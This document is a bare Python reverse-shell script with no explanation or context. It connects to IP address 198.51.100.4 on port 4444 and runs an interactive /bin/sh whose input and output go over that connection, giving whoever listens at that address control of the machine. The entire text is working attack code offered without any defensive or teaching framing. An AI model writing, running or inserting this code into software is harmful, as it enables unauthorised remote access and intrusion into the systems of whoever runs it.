import socket, subprocess
s = socket.socket()
s.connect(('198.51.100.4', 4444))
subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
